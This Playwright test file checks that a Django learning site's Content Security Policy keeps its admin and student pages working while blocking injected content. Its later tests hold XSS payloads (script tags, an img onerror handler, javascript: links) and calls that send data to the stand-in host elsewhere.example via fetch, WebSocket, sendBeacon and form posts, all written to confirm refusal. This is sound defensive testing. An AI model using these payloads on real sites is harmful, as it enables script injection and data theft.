"""The security policy in a browser: every page works under it, and what it is for is stopped."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.steps import ask, last_answer, new_student

WATCH = """
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => window.refused.push(
    `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
ADMIN = [
    "/admin/",
    "/admin/learning/conversation/",
    "/admin/learning/message/",
    "/admin/learning/course/",
    "/admin/learning/course/add/",
    "/admin/learning/chapter/",
    "/admin/learning/chapter/add/",
    "/admin/learning/enrolment/",
    "/admin/learning/enrolment/add/",
    "/admin/learning/user/",
    "/admin/learning/user/add/",
    "/admin/auth/group/add/",
    "/admin/tracing/tracerecord/",
    "/admin/tracing/scorerecord/",
    "/admin/rag/indexversion/",
    "/admin/rag/chunk/",
    "/admin/django_tasks_database/dbtaskresult/",
    "/admin/axes/accessattempt/",
    "/admin/axes/accesslog/",
    "/admin/password_change/",
    "/admin/nowhere/",
]
# One row of each list is opened too: its form, its history, the page that asks before deleting.
LISTS = [
    "learning/conversation",
    "learning/message",
    "learning/course",
    "learning/chapter",
    "learning/enrolment",
    "learning/user",
    "tracing/tracerecord",
    "rag/indexversion",
    "rag/chunk",
    "django_tasks_database/dbtaskresult",
    "axes/accesslog",
]


@pytest.fixture
def watched(complaints, page: Page) -> Page:
    """A page that keeps what its policy refused in `window.refused`."""
    page.add_init_script(WATCH)
    return page


def ask_and_wait(page: Page) -> None:
    ask(page, "What is in a tide table?")
    # The first question to a site waits for its models.
    expect(last_answer(page)).to_have_attribute("data-state", "complete", timeout=60_000)


def refused(page: Page) -> list[str]:
    return [f"{page.url}: {what}" for what in page.evaluate("window.refused")]


@pytest.fixture
def staff(site, watched: Page) -> Page:
    """Staff, on a site where a student has asked something."""
    new_student(watched, "tables")
    site.openai.answers("A tide table ", "lists heights [1].")
    ask_and_wait(watched)
    watched.context.clear_cookies()
    watched.goto("/admin/login/?next=/admin/")
    watched.fill("[name=username]", "staff")
    watched.fill("[name=password]", "staff")
    watched.locator("[type=submit]").click()
    expect(watched.locator("#nav-sidebar-apps")).to_be_visible()
    return watched


def test_every_page_of_the_admin_works_under_its_policy(staff, complaints):
    broken = refused(staff)
    pages = list(ADMIN)
    for name in LISTS:
        staff.goto(f"/admin/{name}/")
        links = staff.locator(f"#result_list a[href*='/{name}/'][href*='/change/']")
        expect(links.first).to_be_attached()
        pages.append(links.first.get_attribute("href").partition("?")[0])
    pages += [page.replace("/change/", "/history/") for page in pages if "/change/" in page]
    for address in pages:
        staff.goto(address)
        # What Alpine.js draws is there once it has evaluated the page.
        expect(staff.locator("html")).not_to_have_attribute("x-cloak", "")
        broken += refused(staff)

    assert broken == []
    assert [words for words in complaints if "404" not in words] == []


def test_the_parts_of_the_admin_that_move_still_do(staff):
    staff.goto("/admin/learning/course/")
    staff.locator("#result_list input.action-select").first.check()
    bar = staff.locator("#changelist-actions")
    expect(bar).to_be_visible()
    assert bar.evaluate("bar => bar.style.width").endswith("px")  # set by an attribute

    staff.locator("#result_list a[href*='/change/']").first.click()
    staff.locator("#tabs-items a", has_text="Enrolments").click()
    staff.get_by_text("Add another Enrolment").click()
    staff.locator(".select2-selection").first.click()
    staff.locator(".select2-search__field").fill("ada")
    expect(staff.locator(".select2-results__option").first).to_contain_text("ada")
    # The theme's colours come from the one style element that is let through.
    colour = "getComputedStyle(document.documentElement).getPropertyValue('--color-primary-600')"
    assert staff.evaluate(colour)
    assert refused(staff) == []


def test_every_page_of_a_student_works_under_its_policy(site, watched, complaints):
    new_student(watched, "tables")
    site.openai.answers(
        "A **table** [1]:\n\n| a | b |\n|---|---|\n| 1 | $x^2$ |\n\n```py\nx\n```\n"
    )
    ask_and_wait(watched)
    conversation = watched.locator("[data-chat]").get_attribute("data-page")
    broken = refused(watched)
    for address in (
        "/",
        "/courses/tides/",
        *(f"/courses/tides/chapters/{slug}/" for slug in ("sea", "moon", "tables")),
        *(f"/courses/tides/{page}/" for page in ("quiz", "graph", "words")),
        conversation,
        f"{conversation}delete/",
        "/accounts/privacy/",
        "/nowhere/",
    ):
        watched.goto(address)
        broken += refused(watched)
    watched.context.clear_cookies()
    for address in ("/", "/courses/tides/", "/accounts/login/", "/accounts/signup/"):
        watched.goto(address)
        broken += refused(watched)

    assert broken == []
    assert [words for words in complaints if "404" not in words] == []


# --- What it is for -----------------------------------------------------------------------------

# As if somebody's words had got into the page as they are.
INJECT = """(html) => new Promise((done) => {
  window.refused.length = 0;
  const place = document.createElement("div");
  document.body.append(place);
  place.append(document.createRange().createContextualFragment(html));
  setTimeout(() => done(window.refused.map((line) => line.split(" ")[0])), 300);
})"""
ATTACKS = {
    "<script>window.hacked = true</script>": "script-src-elem",
    "<img src=x onerror='window.hacked = true'>": "script-src-attr",
    "<script src='https://elsewhere.example/x.js'></script>": "script-src-elem",
    "<script src='data:text/javascript,window.hacked=true'></script>": "script-src-elem",
    "<img src='https://elsewhere.example/?words'>": "img-src",
    "<link rel=stylesheet href='https://elsewhere.example/?words'>": "style-src-elem",
    "<style>body { background: red }</style>": "style-src-elem",
    "<iframe src='https://elsewhere.example/'></iframe>": "frame-src",
    "<object data='https://elsewhere.example/'></object>": "object-src",
    "<video src='https://elsewhere.example/?words'></video>": "media-src",
    "<base href='https://elsewhere.example/'>": "base-uri",
}
CALLS = {
    "fetch": "fetch('https://elsewhere.example/').then(() => 'sent', () => 'refused')",
    "websocket": """new Promise((done) => {
      const socket = new WebSocket("wss://elsewhere.example/");
      socket.onopen = () => done("sent");
      socket.onerror = () => done("refused");
    })""",
    "beacon": """new Promise((done) => {
      addEventListener("securitypolicyviolation", () => done("refused"));
      navigator.sendBeacon("https://elsewhere.example/", "words");
    })""",
    "form": """new Promise((done) => {
      addEventListener("securitypolicyviolation", () => done("refused"));
      const form = document.createElement("form");
      form.action = "https://elsewhere.example/";
      document.body.append(form);
      form.submit();
    })""",
}


@pytest.mark.parametrize("area", ["student", "admin"])
def test_what_gets_into_a_page_runs_nothing_and_carries_nothing_away(area, request, watched, site):
    if area == "admin":
        page = request.getfixturevalue("staff")
        page.goto("/admin/learning/message/")
    else:
        page = watched
        new_student(page, "tables")
    asked = []
    page.route("**://elsewhere.example/**", lambda route: (asked.append(1), route.abort()))

    for html, directive in ATTACKS.items():
        assert directive in page.evaluate(INJECT, html), html
    for name, call in CALLS.items():
        assert page.evaluate(call) == "refused", name
    assert not page.evaluate("Boolean(window.hacked)")
    assert asked == []


# Later, so that it runs as the page's own: what a test evaluates itself is let through.
EVALUATE = """() => new Promise((done) => setTimeout(() => {
  try { done(eval("'evaluated'")) } catch { done("refused") }
}))"""
FOLLOW = """() => new Promise((done) => {
  addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
  const link = document.createElement("a");
  link.href = "javascript:window.hacked = true";
  document.body.append(link);
  link.click();
})"""


def test_a_students_page_takes_no_text_for_code(watched, site):
    new_student(watched, "tables")

    assert watched.evaluate(EVALUATE) == "refused"
    assert watched.evaluate(FOLLOW).startswith("script-src")
    assert not watched.evaluate("Boolean(window.hacked)")
